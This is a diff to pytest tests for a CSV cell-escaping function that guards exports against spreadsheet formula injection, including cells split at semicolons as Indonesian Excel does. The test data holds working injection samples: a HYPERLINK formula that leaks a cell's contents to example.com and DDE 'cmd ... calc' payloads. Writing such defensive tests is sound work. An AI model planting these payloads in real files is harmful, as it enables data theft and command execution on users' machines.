@@ -12,7 +12,7 @@ from consign.tabular import csv_cell, write_csv
 
 @pytest.mark.parametrize("typed", [
     '=HYPERLINK("http://example.com/?leak="&A1,"Lihat")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)",
-    "\t=1", "\r=1", "-cmd|' /C calc'!A0", "+", "-", "-5%+1", "-%",
+    "\r=1", "-cmd|' /C calc'!A0", "+", "-", "-5%+1", "-%",
 ])
 def test_text_a_spreadsheet_would_run_goes_out_behind_an_apostrophe(typed):
     assert csv_cell(typed) == "'" + typed
@@ -26,9 +26,19 @@ def test_plain_text_signed_numbers_and_numbers_go_out_as_they_are(value):
     assert csv_cell(value) == value
 
 
+@pytest.mark.parametrize(("typed", "sent"), [
+    ("salah ketik;=1+1", "salah ketik;'=1+1"), ("Kain;-2+3", "Kain;'-2+3"),
+    ('x; "=cmd|\' /C calc\'!A0', 'x; "\'=cmd|\' /C calc\'!A0'), ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
+    ("\t=1", "\t'=1"), ("  =1+1", "'  =1+1"), ("Batik; kain", "Batik; kain"), ("a;b;c", "a;b;c")])
+def test_a_part_after_a_semicolon_or_a_tab_that_starts_like_a_formula_is_kept_text(typed, sent):
+    """Excel in Indonesian splits a line at ";": each part becomes a cell of its own."""
+    assert csv_cell(typed) == sent
+
+
 def test_none_true_false_and_lists_are_written_as_json_writes_them():
     assert [csv_cell(v) for v in (None, True, False, ["a", 1], {"k": "=x"})] == [
         "", "true", "false", '["a", 1]', '{"k": "=x"}']
+    assert csv_cell({"reason": "salah;=1+1"}) == '{"reason": "salah;\'=1+1"}'
 
 
 def test_a_table_reads_back_with_its_formula_text_kept_as_text():
